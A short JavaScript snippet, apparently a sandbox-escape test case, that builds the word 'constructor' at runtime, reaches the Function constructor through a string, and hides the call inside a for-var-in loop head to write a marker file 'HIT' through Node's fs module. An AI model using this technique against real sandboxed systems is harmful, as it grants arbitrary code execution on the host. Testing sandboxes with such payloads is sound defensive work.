// a value in the head of a loop over names
const k=['constr','uctor'].join('');
var x=''; x=x[k]; x=x[k]; for (var f = x('process.getBuiltinModule("fs").writeFileSync("HIT","forvarin")') in {}) ; f()
